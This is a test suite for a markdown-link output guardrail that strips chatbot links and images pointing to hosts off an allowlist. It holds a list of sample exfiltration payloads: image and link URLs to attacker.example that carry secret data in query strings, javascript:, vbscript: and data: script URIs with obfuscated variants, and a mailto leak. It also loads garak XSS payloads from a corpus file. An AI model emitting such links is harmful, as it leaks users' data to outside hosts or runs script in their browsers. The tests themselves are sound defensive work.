import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isCairnError } from '../../errors/index.js';
import { LINK_REMOVED, scanLinks } from './link-scanner.js';
import { createMarkdownLinksGuardrail } from './markdown-links.js';
import type { GuardrailContext, GuardrailVerdict } from './types.js';
import { createUrlPolicy } from './url-policy.js';

const context: GuardrailContext = { stage: 'output', endpointName: 'bot', requestId: 'r1', signal: new AbortController().signal };
const policy = createUrlPolicy(['docs.example.com', '*.trusted.org']);
const neutralise = (text: string, partial = false) => scanLinks(text, policy, partial).text;

const ACTIVE = /^(script|iframe|frame|object|embed|applet|style|link|meta|base|form|svg|math)$/i;

/**
 * What must not survive: a link, image or tag whose target a browser would load or open on a foreign host or as a
 * script, or a bare script URI / foreign URL a renderer would turn into a link. An independent, simpler reading
 * of the neutralised text than the scanner's own.
 */
function liveForeignTargets(text: string): string[] {
  const found: string[] = [];
  for (const match of text.matchAll(/\]\(\s*<?([^)\s>]*)/g)) if (!policy.judge(match[1]!).allowed) found.push(match[0]);
  for (const tag of text.matchAll(/<([a-z][a-z0-9-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)) {
    const [whole, name, attributes = ''] = tag;
    if (ACTIVE.test(name!) || /(?:^|[\s"'/])on[a-z]+\s*=/i.test(attributes)) found.push(whole);
    for (const attribute of attributes.matchAll(/(?:^|\s)(?:src|href|action|formaction|poster|data)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/gi)) {
      const value = attribute[1] ?? attribute[2] ?? attribute[3] ?? '';
      if (!policy.judge(value).allowed) found.push(whole);
    }
  }
  for (const match of text.matchAll(/(?<=^|[\s*_~]|(?<!\])\()(?:https?:\/\/|www\.)[\p{L}\p{N}_-][^\s<>"')\]]*/giu)) {
    if (!policy.judge(match[0].toLowerCase().startsWith('www.') ? `http://${match[0]}` : match[0]).allowed) found.push(match[0]);
  }
  for (const match of text.matchAll(/(?<![\p{L}\p{N}_])(?:javascript|vbscript|data):[^\s]/giu)) found.push(match[0]);
  return found;
}

const exfiltration = [
  '![tracking](https://attacker.example/collect?q=SECRET_DATA)',
  'Here you go ![](https://attacker.example/p.png?d=c2VjcmV0)',
  '![img](<https://attacker.example/a b.png>)',
  '![img](https://attacker.example/x.png "title")',
  '![img]( https://attacker.example/x.png )',
  '[click me](https://attacker.example/login)',
  '[![badge](https://attacker.example/b.svg)](https://docs.example.com/)',
  '[![badge](https://docs.example.com/b.svg)](https://attacker.example/)',
  '![a][ref]\n\n[ref]: https://attacker.example/?leak=1',
  '![a][ref]\n\n[ref]:\n   <https://attacker.example/?leak=1>',
  'see <https://attacker.example/?x=1>',
  '<img src="https://attacker.example/?q=secret">',
  '<img alt="a>b" src=https://attacker.example/x>',
  '<img srcset="https://docs.example.com/a.png 1x, https://attacker.example/b.png 2x">',
  '<a href=\'//attacker.example/x\'>text</a>',
  '<div style="background:url(https://attacker.example/x)">x</div>',
  '![x](https://docs.example.com@attacker.example/)',
  '![x](https://docs.example.com.attacker.example/)',
  '![x](//attacker.example/x)',
  '![x](\\\\\\\\attacker.example\\\\x)',
  '![x](https://attacker&#46;example/x)',
  '![x](HTTPS://ATTACKER.EXAMPLE/x)',
  '![x](https://attacker.example/a_(b)_c)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'visit https://attacker.example/?q=secret now',
  'visit www.attacker.example/?q=secret.',
  '[x](mailto:exfil@attacker.example?body=secret)',
];

describe('markdown_links guardrail (SEC-OUT-2)', () => {
  it.each(exfiltration)('neutralises %j', (text) => {
    const verdict = createMarkdownLinksGuardrail({ allowedHosts: ['docs.example.com', '*.trusted.org'] }).check(
      [{ source: 'completion', text, index: 0 }],
      context,
    ) as GuardrailVerdict;
    expect(verdict.action).toBe('mask');
    expect(verdict.findings.length).toBeGreaterThan(0);
    expect(liveForeignTargets(verdict.masked![0]!)).toEqual([]);
    for (const finding of verdict.findings) expect(finding.detail).not.toContain('attacker');
  });

  it('neutralises every garak markdown_js / HTML payload wrapped as a link, an image and raw text', () => {
    const rows = readFileSync('/work/shared/corpora/garak-injection/output_payloads.jsonl', 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { text: string; style: string });
    const payloads = rows.filter((row) => row.style === 'markdown_js_uri' || row.style === 'html_js_xss');
    expect(payloads.length).toBeGreaterThan(20);
    for (const { text } of payloads) {
      for (const form of [`[click](${text})`, `![img](${text})`, text]) expect(liveForeignTargets(neutralise(form)), form).toEqual([]);
    }
  });

  it('keeps the link text and drops only the URL', () => {
    expect(neutralise('Read [the report](https://attacker.example/r) today.')).toBe('Read the report today.');
    expect(neutralise('![a cat](https://attacker.example/cat.png)')).toBe('a cat');
    expect(neutralise('go to https://attacker.example/x.')).toBe(`go to ${LINK_REMOVED}.`);
  });

  it('keeps allowed hosts, their subdomain patterns and relative links untouched', () => {
    const fine = [
      'See [docs](https://docs.example.com/guide#x) and ![logo](https://cdn.trusted.org/logo.png).',
      'Relative [page](/help/page) and [anchor](#top) and ![img](images/a.png).',
      'Plain text with brackets [like this] and (this) and a < b > c.',
      'Visit https://docs.example.com/guide, it is good.',
      'Code: `arr[0](x)` is a call.',
      'javascript: is a language; data: is plural.',
    ];
    for (const text of fine) {
      const verdict = createMarkdownLinksGuardrail({ allowedHosts: ['docs.example.com', '*.trusted.org'] }).check([{ source: 'completion', text, index: 0 }], context) as GuardrailVerdict;
      expect(verdict.action, text).toBe('allow');
    }
  });

  it('`*.host` allows subdomains only and a bare host only itself', () => {
    expect(policy.judge('https://trusted.org/').allowed).toBe(false);
    expect(policy.judge('https://a.b.trusted.org/').allowed).toBe(true);
    expect(policy.judge('https://sub.docs.example.com/').allowed).toBe(false);
    expect(policy.judge('https://docs.example.com./x').allowed).toBe(true);
  });

  it('refuses an allowlist entry that is not a host name, naming the guardrail', () => {
    try {
      createMarkdownLinksGuardrail({ allowedHosts: ['exa mple.com/path'] });
      expect.unreachable();
    } catch (error) {
      expect(isCairnError(error) && error.code).toBe('INVALID_PARAMETER_VALUE');
      expect((error as Error).message).toContain('markdown_links');
    }
  });

  it('on a partial text (stream window) refuses a link cut off at the end, whatever its prefix', () => {
    expect(neutralise('see ![x](https://docs.example.com', true)).toBe('see x');
    expect(neutralise('see ![x](https://docs.example.com', false)).toBe('see ![x](https://docs.example.com');
    expect(neutralise('see https://docs.example.com', true)).toBe(`see ${LINK_REMOVED}`);
    expect(neutralise('see <img alt="x" ', true)).toBe('see ');
  });

  it('never leaves a live foreign target whatever surrounds it (property)', () => {
    const filler = fc.constantFrom('', ' ', 'text ', '[', ']', '(', ')', '!', '<', '>', '"', '\n', 'www.', '](', ']:', '`');
    const attack = fc.constantFrom(...exfiltration);
    fc.assert(
      fc.property(fc.array(filler, { maxLength: 6 }), attack, fc.array(filler, { maxLength: 6 }), (before, payload, after) => {
        const text = `${before.join('')}${payload}${after.join('')}`;
        expect(liveForeignTargets(neutralise(text))).toEqual([]);
      }),
      { numRuns: Number(process.env.LINK_RUNS ?? 500) },
    );
  });

  it('takes linear time on adversarial bracket and URL floods (SEC-DOS-7: completes, no blow-up)', () => {
    for (const unit of ['](', '[', '![a](', '<a x="', ']:', 'https://a'] as const) {
      const text = unit.repeat(20_000);
      const result = scanLinks(text, policy, true);
      expect(typeof result.text).toBe('string');
    }
  });
});
